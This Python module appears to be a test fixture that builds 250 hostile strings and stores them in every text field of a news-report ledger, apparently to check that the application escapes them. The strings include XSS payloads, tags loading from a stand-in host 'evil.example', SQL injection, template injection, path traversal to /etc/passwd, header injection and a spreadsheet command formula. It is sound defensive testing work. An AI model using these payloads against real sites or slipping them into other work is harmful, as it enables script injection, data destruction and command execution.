"""250 hostile strings, and a ledger that has them as titles, bodies, outlets, addresses, file names, names and words."""

from __future__ import annotations

from itertools import product
from pathlib import Path
from typing import Any

from sqlalchemy import update

from greffier.desk.renew import settle
from greffier.ledger import open_ledger, schema
from ledger.told import make_ledger, report_of

__all__ = ["STRINGS", "make_hostile_ledger"]

_EVIL = "//evil.example/x"
_TAGS = [
    "<script>alert(1)</script>", f"<script src={_EVIL}.js></script>", "<img src=x onerror=alert(1)>", f"<img src={_EVIL}.png>",
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href=javascript:alert(1)><text x=9 y=9>a</text></a>",
    "<math><mi xlink:href=javascript:alert(1)>a</mi></math>", "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>", f"<iframe src={_EVIL}></iframe>", "<iframe src=javascript:alert(1)></iframe>",
    "<body onload=alert(1)>", "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>", "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>", f"<link rel=stylesheet href={_EVIL}.css>", f"<style>@import '{_EVIL}.css';</style>",
    f"<style>*{{background:url({_EVIL})}}</style>", f"<base href={_EVIL}>", f"<meta http-equiv=refresh content='0;url={_EVIL}'>",
    f"<form action={_EVIL}><button>a</button></form>", f"<object data={_EVIL}></object>", f"<embed src={_EVIL}>",
    "<a href=javascript:alert(1)>a</a>", "<a href='data:text/html,<script>alert(1)</script>'>a</a>", "<marquee onstart=alert(1)>a</marquee>",
    "<template><script>alert(1)</script></template>", "<noscript><img src=x onerror=alert(1)></noscript>",
    "<p style=background:url(//evil.example/x)>a", "<div hx-get=//evil.example/x hx-trigger=load>a</div>",
    "<div hx-get='/ledger/all' hx-trigger=load hx-target=body>a</div>", "<div hx-on:click=alert(1) hx-on::load=alert(1)>a</div>",
    "<div data-hx-post=/settings data-hx-trigger=load>a</div>", "<div hx-vals='js:{a:alert(1)}' hx-get=/ hx-trigger=load>a</div>",
    "<div hx-nonce=x hx-get=//evil.example hx-trigger=load>a</div>", "<button data-key=a onclick=alert(1)>a</button>",
    "<portal src=//evil.example>", "<xss id=x tabindex=1 onfocus=alert(1)></xss>",
]  # fmt: skip
_BREAKS = ["", '"', "'", "`", '">', "'>", "</title>", "</textarea>", "</script>", "-->", "]]>", "</option></select>"]
_PLAIN = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "\x01javascript:alert(1)", "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)", f"http:{_EVIL}", "{{ 7*7 }}", "{% import 'os' %}", "${alert(1)}", "#{alert(1)}", "<%= 7*7 %>", "{{constructor.constructor('alert(1)')()}}",
    "' OR 1=1 --", "'; DROP TABLE entry; --", '" onmouseover="alert(1)', "' autofocus onfocus='alert(1)", "\\\"><script>alert(1)</script>",
    "%3Cscript%3Ealert(1)%3C/script%3E", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)", "\u2028alert(1)\u2029", "\u202egnp.exe",
    "＜script＞alert(1)＜/script＞", "<scr\u200bipt>alert(1)</script>", "../../../../etc/passwd", "..\\..\\windows", "a\r\nSet-Cookie: x=y", "=cmd|' /C calc'!A0",
    "%(num)s %(x)s %n", "{0} {name!r} {a.b}", "é" * 300, "A" * 3000, "\u0301" * 200, "👩‍👩‍👧‍👦" * 40, "مرحبا שלום", "NaN", "null", "undefined", "true",
]  # fmt: skip


def _strings() -> list[str]:
    found = [*_TAGS, *_PLAIN]
    crossed = (f"{mark}{tag}" for mark, tag in product(_BREAKS[1:], _TAGS))
    for one in crossed:
        if len(found) >= 250:
            break
        found.append(one)
    return found


STRINGS = _strings()


def make_hostile_ledger(path: Path) -> None:
    """A report for each string, which has it everywhere that words can be; and judged by such an author."""
    reports = [_report(words) for words in STRINGS]
    make_ledger(path, reports)
    with open_ledger(path) as ledger:
        with ledger.begin() as connection:
            for words, data in zip(STRINGS, reports, strict=True):
                own = schema.report.c.id == report_of(data).id
                connection.execute(update(schema.report).where(own).values(path=f"{words}.txt"))
        settle(ledger)
        _judge(path)


def _judge(path: Path) -> None:
    from greffier import judge

    with open_ledger(path) as ledger:
        with ledger.begin() as connection:
            entries = list(connection.scalars(schema.entry.select().with_only_columns(schema.entry.c.id).limit(12)))
        for entry, words in zip(entries, STRINGS, strict=False):
            judge.accept(ledger, entry, judge.Judge(words.replace("\n", " "), because=words))


def _report(words: str) -> dict[str, Any]:
    body = words.replace(". ", ".")
    text = f"{body} a fait trois morts à Izmaïl selon {body}"
    said = {"words": body, "name": words, "id": f"person:{words}"}
    place = {"words": "Izmaïl", "name": words, "id": "geonames:707308", "at": [45.35, 28.84], "country": "UA"}
    entries = [
        {"kind": "toll", "anchor": "trois morts", "harm": "killed", "number": [3], "victims": [said], "source": said,
         "place": [place], "when": "2031-05-02"},
        {"kind": "position", "anchor": "fait", "actor": [said], "stance": "rejects", "object": body, "when": "2031-05-02"},
        {"kind": "statement", "anchor": "selon", "speaker": [said], "act": "says", "content": body},
    ]  # fmt: skip
    return {"title": words, "outlet": words, "url": words, "published": "2031-05-02", "text": text, "entries": entries}
